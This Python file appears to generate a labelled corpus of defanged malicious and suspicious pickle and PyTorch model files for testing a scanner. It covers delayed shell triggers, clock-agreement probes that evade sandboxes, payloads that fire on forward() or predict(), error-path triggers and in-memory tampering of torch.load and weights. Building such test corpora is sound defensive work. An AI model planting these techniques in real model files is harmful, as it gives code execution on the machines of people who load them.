"""Payloads that wait, fire on use, fire on the error path, or only check the clocks first (issue
#14): delayed triggers in every container, clock-consistency probes that fire only when every
clock agrees, use-time payloads (forward, hooks, __getattr__, predict, a loaded function), the
error path, and in-memory tampering (Sleepy Pickle, suspicious: no process, file or socket).

Defanged like the rest of the corpus: each payload's only effect is a marker under the jail's
/tmp; forks are bounded and exit; the long sleeps are what the time warp exists for.
"""
import textwrap

import heldout
from catalog import Sample, bytes_writer, marker_cmd
from heldout import Dice, Payload, pack_in
from pickle_asm import Call, Global, Memo, Raw, Ref, Seq, assemble, attr

G = Global
SH = "exec /bin/sh"
CONTAINERS = ["pickle", "pytorch-zip", "pytorch-legacy", "joblib", "numpy-npy", "numpy-npz", "7z-pytorch", "paddle",
              "dill"]


def run(src):
    """exec(src, {}) : the payload's own globals, like `exec(open(f).read(), {})`."""
    return Call(G("builtins", "exec"), (textwrap.dedent(src), {}))


# --- delayed triggers: (technique, description, build(cmd)) -----------------------------------

def timer_600s(cmd):
    return Call(attr(Call(G("threading", "Timer"), (600.0, G("os", "system"), [cmd])), "start"))


def thread_3h(cmd):
    return run(f"""\
        import os, threading, time
        def later():
            time.sleep(3 * 3600)
            os.system({cmd!r})
        threading.Thread(target=later, daemon=True).start()
    """)


def atexit_hook(cmd):
    return Call(G("atexit", "register"), (G("posix", "system"), cmd))


def del_at_shutdown(cmd):
    return run(f"""\
        import os, sys
        class _Cache:
            def __del__(self):
                os.system({cmd!r})
        sys.modules['__main__'].__dict__['_weights_cache'] = _Cache()
    """)


def weakref_finalize(cmd):
    return run(f"""\
        import os, sys, weakref
        class _Handle:
            pass
        handle = _Handle()
        weakref.finalize(handle, os.system, {cmd!r})
        sys.modules['__main__'].__dict__['_handle'] = handle
    """)


def del_held_by_library(cmd):
    # os.system bound as a default: at a real shutdown the module globals are gone by then.
    return run(f"""\
        import json, os
        class _Cache:
            def __del__(self, _run=os.system):
                _run({cmd!r})
        json.JSONDecoder._shared_cache = _Cache()
    """)


def generator_finally(cmd):
    return run(f"""\
        import collections, os
        def _batches(_run=os.system):
            try:
                yield 0
            finally:
                _run({cmd!r})
        _pending = _batches()
        next(_pending)
        collections._pending_batches = _pending
    """)


def weakref_callback(cmd):
    return run(f"""\
        import os, sys, weakref
        class _Handle:
            pass
        sys._model_handle = _Handle()
        sys._model_ref = weakref.ref(sys._model_handle, lambda ref, _run=os.system: _run({cmd!r}))
    """)


def sigalrm(cmd):
    return run(f"""\
        import os, signal
        signal.signal(signal.SIGALRM, lambda signum, frame: os.system({cmd!r}))
        signal.alarm(90)
    """)


def setsid_daemon(cmd):
    return run(f"""\
        import os, time
        pid = os.fork()
        if pid == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(600)
                os.system({cmd!r})
            os._exit(0)
        os.waitpid(pid, 0)
    """)


DELAYED = [
    ("timer-600s", "threading.Timer(600, os.system, [cmd]).start()", timer_600s),
    ("thread-sleep-3h", "a daemon thread that sleeps 3 hours, then runs a shell", thread_3h),
    ("atexit", "atexit.register(posix.system, cmd): a shell at interpreter exit", atexit_hook),
    ("del-at-shutdown", "an object kept in __main__ whose __del__ runs a shell at interpreter shutdown", del_at_shutdown),
    ("weakref-finalize", "weakref.finalize(obj, os.system, cmd) on an object kept alive until shutdown", weakref_finalize),
    ("del-held-by-library", "an object kept on a class of an imported library (json) whose __del__ runs a shell at "
     "interpreter shutdown", del_held_by_library),
    ("generator-finally", "a suspended generator kept on an imported module (collections) whose finally block runs "
     "a shell when shutdown closes it", generator_finally),
    ("weakref-callback", "weakref.ref(obj, callback) on an object kept on sys: the callback runs a shell when "
     "shutdown frees it", weakref_callback),
    ("sigalrm", "a SIGALRM handler and signal.alarm(90): the shell runs when the alarm rings", sigalrm),
    ("setsid-daemon", "a double-forked setsid daemon that sleeps 10 minutes, then runs a shell", setsid_daemon),
]


def delayed_samples():
    d = Dice(14)
    for name, description, build in DELAYED:
        for container in CONTAINERS:
            technique = f"delay-{name}-{container}"
            cmd = marker_cmd(technique)
            made = pack_in(d, Payload(technique, description, SH, lambda p, b=build, c=cmd: b(c)), container)
            yield Sample(f"malicious/triggers/delay_{name}_{container}{made.ext or '.pkl'}".replace("-", "_"),
                         "malicious", technique, made.format, made.description, SH, made.write)


# --- clocks that must agree: each payload fires only when every clock it reads agrees ---------

CLOCKS = """\
import datetime, os, time
def _clocks():
    return (time.time(), time.monotonic(), time.perf_counter(), datetime.datetime.now().timestamp(),
            float(open('/proc/uptime').read().split()[0]))
def _agree(before, after, seconds):
    spans = [b - a for a, b in zip(before, after)]
    return all(abs(s - seconds) < 0.35 for s in spans) or all(abs(s - seconds) < seconds * 0.01 for s in spans)
"""

PROBES = [
    ("sleep-2s", "time.sleep(2)", "time.sleep(2)", 2),
    ("select-2s", "a select() timeout of 2 s", "import select; select.select([], [], [], 2)", 2),
    ("poll-2s", "a poll() timeout of 2 s", "import select; select.poll().poll(2000)", 2),
    ("epoll-2s", "an epoll timeout of 2 s", "import select; select.epoll().poll(2)", 2),
    ("event-wait-2s", "threading.Event().wait(2)", "import threading; threading.Event().wait(2)", 2),
    ("asyncio-call-later-2s", "asyncio loop.call_later(2)",
     "import asyncio\nloop = asyncio.new_event_loop()\nloop.call_later(2, loop.stop)\nloop.run_forever()\nloop.close()", 2),
    ("sched-2s", "sched.scheduler().enter(2)", "import sched; s = sched.scheduler(); s.enter(2, 1, lambda: None); s.run()", 2),
    ("alarm-pause-2s", "signal.alarm(2) then signal.pause()",
     "import signal; signal.signal(signal.SIGALRM, lambda *a: None); signal.alarm(2); signal.pause()", 2),
    ("setitimer-2s", "signal.setitimer(ITIMER_REAL, 2) then signal.pause()",
     "import signal; signal.signal(signal.SIGALRM, lambda *a: None); signal.setitimer(signal.ITIMER_REAL, 2); signal.pause()", 2),
    ("timer-join-2s", "threading.Timer(2).start() then join()",
     "import threading; t = threading.Timer(2, lambda: None); t.start(); t.join()", 2),
    ("sleep-10s", "a payload deferred by 10 s", "time.sleep(10)", 10),
    ("sleep-10min", "a payload deferred by 10 minutes", "time.sleep(600)", 600),
    ("sleep-3h", "a payload deferred by 3 hours", "time.sleep(3 * 3600)", 3 * 3600),
]


def clock_probe(technique, wait, seconds):
    lines = "\n".join(f"    {line}" for line in wait.splitlines())
    return run(CLOCKS + f"""\
def _probe():
    before = _clocks()
{lines}
    if _agree(before, _clocks(), {seconds}):
        os.system({marker_cmd(technique)!r})
_probe()
""")


def file_time_probe(technique):
    """Files written 2 s apart carry mtimes 2 s apart, on the same clock time.time reads."""
    return run(f"""\
        import os, time
        first = time.time()
        open('/tmp/.probe_a', 'w').write('a')
        time.sleep(2)
        open('/tmp/.probe_b', 'w').write('b')
        a, b = os.stat('/tmp/.probe_a').st_mtime, os.stat('/tmp/.probe_b').st_mtime
        if abs((b - a) - 2) < 0.35 and abs(a - first) < 0.35 and abs(b - time.time()) < 0.35:
            os.system({marker_cmd(technique)!r})
    """)


def clock_samples():
    for name, description, wait, seconds in PROBES:
        technique = f"clock-{name}"
        yield Sample(f"malicious/triggers/clock_{name.replace('-', '_')}.pkl", "malicious", technique, "pickle",
                     f"measures {description} with time.time, monotonic, perf_counter, datetime.now and /proc/uptime; "
                     "a shell only when all agree", SH,
                     bytes_writer(assemble(clock_probe(technique, wait, seconds), 4)))
    technique = "clock-file-mtime"
    yield Sample("malicious/triggers/clock_file_mtime.pkl", "malicious", technique, "pickle",
                 "two files written 2 s apart: a shell only when their mtimes and time.time agree", SH,
                 bytes_writer(assemble(file_time_probe(technique), 4)))


# --- payloads that fire only when the model is used -------------------------------------------

def model_expr(src):
    """The loaded object is `model` as src defines it (exec in a fresh namespace)."""
    return Call(G("builtins", "eval"), (f"(lambda g: exec({textwrap.dedent(src)!r}, g) or g['model'])({{}})",))


def use_payloads(cmd):
    return [
        ("forward", "an nn.Module whose forward() runs a shell", f"""\
            import os, torch
            class Net(torch.nn.Module):
                def __init__(self):
                    super().__init__()
                    self.fc = torch.nn.Linear(4, 2)
                def forward(self, x):
                    os.system({cmd!r})
                    return self.fc(x)
            model = Net()
         """),
        ("forward-pre-hook", "nn.Linear with a forward pre-hook that runs a shell", f"""\
            import os, torch
            model = torch.nn.Linear(4, 2)
            model.register_forward_pre_hook(lambda module, inputs: os.system({cmd!r}) and None)
         """),
        ("state-dict-hook", "nn.Linear with a state_dict hook that runs a shell", f"""\
            import os, torch
            model = torch.nn.Linear(4, 2)
            model._register_state_dict_hook(lambda module, state, prefix, local: os.system({cmd!r}) and None)
         """),
        ("getattr", "a config object whose __getattr__ runs a shell when a missing attribute is read", f"""\
            import os
            class Config:
                def __getattr__(self, name):
                    if not name.startswith('_'):
                        os.system({cmd!r})
                    raise AttributeError(name)
            model = Config()
         """),
        ("predict", "an estimator (n_features_in_ = 4) whose predict() runs a shell", f"""\
            import os
            class Estimator:
                n_features_in_ = 4
                def predict(self, X):
                    os.system({cmd!r})
                    return [0] * len(X)
            model = Estimator()
         """),
        ("transform", "a transformer (n_features_in_ = 4) whose transform() runs a shell", f"""\
            import os
            class Scaler:
                n_features_in_ = 4
                def transform(self, X):
                    os.system({cmd!r})
                    return X
            model = Scaler()
         """),
        ("callable", "a preprocessing function that runs a shell when called", f"""\
            import os
            def model(x):
                os.system({cmd!r})
                return x
         """),
    ]


def _torch_zip_of(expr):
    import containers
    import models
    members = containers.torch_zip_members(models.state_dict_checkpoint())
    return containers.write_zip(containers.replace_member(members, containers.data_pkl_name(members),
                                                          assemble(expr, 2)))


def use_samples():
    for fmt in ("pickle", "pytorch-zip"):
        for name, description, src in use_payloads("true"):
            technique = f"use-{name}-{fmt}"
            expr = model_expr([s for n, _, s in use_payloads(marker_cmd(technique)) if n == name][0])
            data = assemble(expr, 2) if fmt == "pickle" else _torch_zip_of(expr)
            ext = ".pkl" if fmt == "pickle" else ".pt"
            yield Sample(f"malicious/triggers/use_{name.replace('-', '_')}_{fmt.replace('-', '_')}{ext}", "malicious",
                         technique, fmt, f"{description}: nothing at load, the shell when a victim uses it", SH,
                         bytes_writer(data))


# --- the error path -------------------------------------------------------------------------

def error_payloads(cmd):
    hostile_key = (f"type('LayerKey', (), {{'__repr__': lambda self: __import__('os').system({cmd!r}) and 'k' or 'k'}})()")
    reduce_arg = (f"type('Detail', (), {{'__reduce__': lambda self: (__import__('os').system({cmd!r}), (str, ('x',)))[1]}})()")
    hook = f"lambda *exc: __import__('os').system({cmd!r})"
    return [
        ("repr-of-key", "a KeyError whose key's __repr__ runs a shell: fires when the error is printed",
         Call(G("_operator", "getitem"), ({}, Call(G("builtins", "eval"), (hostile_key,))))),
        ("excepthook", "installs sys.excepthook, then makes the load raise: fires when the error goes uncaught",
         Seq(Call(G("builtins", "setattr"), (Call(G("importlib", "import_module"), ("sys",)), "excepthook",
                                              Call(G("builtins", "eval"), (hook,)))),
             Call(G("builtins", "getattr"), ({}, "missing_weights")))),
        ("reduce-of-arg", "raises with an argument whose __reduce__ runs a shell: fires when a worker pickles the error",
         Call(G("builtins", "ValueError"), (Call(G("builtins", "eval"), (reduce_arg,)),))),
    ]


def error_samples():
    for name, description, _ in error_payloads("true"):
        technique = f"error-{name}"
        expr = [e for n, _, e in error_payloads(marker_cmd(technique)) if n == name][0]
        if name == "reduce-of-arg":  # the exception is raised, not returned: _operator.getitem's KeyError of it
            expr = Call(G("_operator", "getitem"), ({}, expr))
        yield Sample(f"malicious/triggers/error_{name.replace('-', '_')}.pkl", "malicious", technique, "pickle",
                     description, SH, bytes_writer(assemble(expr, 2)))


# --- in-memory tampering (Sleepy Pickle): no process, file or socket: suspicious ---------------

def _import(name):
    return Call(G("importlib", "import_module"), (name,))


def _tensor_offset_zip():
    """A real state_dict checkpoint whose data.pkl, after building the dict, adds 0.5 to one
    tensor in place: the loaded weights differ from the storages in the file."""
    import containers
    import models
    members = containers.torch_zip_members(models.state_dict_checkpoint())
    name = containers.data_pkl_name(members)
    original = dict(members)[name]
    inner = original[2:-1]  # without PROTO 2 and STOP
    bias = Call(G("_operator", "getitem"), (Ref("sd"), "encoder.bias"))
    expr = Seq(Memo("sd", Raw(inner)), Call(attr(bias, "add_"), (0.5,)), Ref("sd"))
    return containers.write_zip(containers.replace_member(members, name, assemble(expr, 2)))


def tamper_samples():
    import containers
    import models
    members = containers.torch_zip_members(models.state_dict_checkpoint())
    name = containers.data_pkl_name(members)
    from pickle_asm import inject
    patch_torch = Call(G("builtins", "setattr"), (_import("torch"), "load", G("pickle", "loads")))
    yield Sample("suspicious/triggers/tamper_patch_torch_load.pt", "suspicious", "tamper-patch-torch-load",
                 "pytorch-zip", "a real state_dict checkpoint that replaces torch.load with pickle.loads while loading",
                 "tamper torch.load", bytes_writer(containers.write_zip(containers.replace_member(
                     members, name, inject(dict(members)[name], patch_torch)))))
    yield Sample("suspicious/triggers/tamper_patch_builtins_open.pkl", "suspicious", "tamper-patch-builtins-open",
                 "pickle", "replaces builtins.open with _pyio.open, then returns a config dict", "tamper builtins.open",
                 bytes_writer(assemble(Seq(Call(G("builtins", "setattr"), (_import("builtins"), "open", G("_pyio", "open"))),
                                           {"lr": 0.001}), 2)))
    yield Sample("suspicious/triggers/tamper_patch_numpy_load.pkl", "suspicious", "tamper-patch-numpy-load",
                 "pickle", "replaces numpy.load with numpy.loadtxt, then returns a config dict", "tamper numpy.load",
                 bytes_writer(assemble(Seq(Call(G("builtins", "setattr"), (_import("numpy"), "load", G("numpy", "loadtxt"))),
                                           {"lr": 0.001}), 2)))
    yield Sample("suspicious/triggers/tamper_sys_modules_swap.pkl", "suspicious", "tamper-sys-modules-swap",
                 "pickle", "sys.modules['posixpath'] swapped for ntpath, then a config dict", "tamper sys.modules",
                 bytes_writer(assemble(Seq(Call(G("_operator", "setitem"), (G("sys", "modules"), "posixpath", _import("ntpath"))),
                                           {"lr": 0.001}), 2)))
    linear = Memo("m", Call(G("torch.nn.modules.linear", "Linear"), (4, 2)))
    yield Sample("suspicious/triggers/tamper_forward_hook.pkl", "suspicious", "tamper-forward-hook", "pickle",
                 "an nn.Linear built by the pickle with a forward hook (builtins.print) installed",
                 "tamper model_hook", bytes_writer(assemble(
                     Seq(linear, Call(attr(Ref("m"), "register_forward_hook"), (G("builtins", "print"),)), Ref("m")), 2)))
    yield Sample("suspicious/triggers/tamper_tensor_offset.pt", "suspicious", "tamper-tensor-offset", "pytorch-zip",
                 "a real state_dict checkpoint whose pickle adds 0.5 to encoder.bias after building it",
                 "tamper tensor_data encoder.bias", bytes_writer(_tensor_offset_zip()))


def samples():
    assert heldout  # the container writers are the held-out generator's
    yield from delayed_samples()
    yield from clock_samples()
    yield from use_samples()
    yield from error_samples()
    yield from tamper_samples()
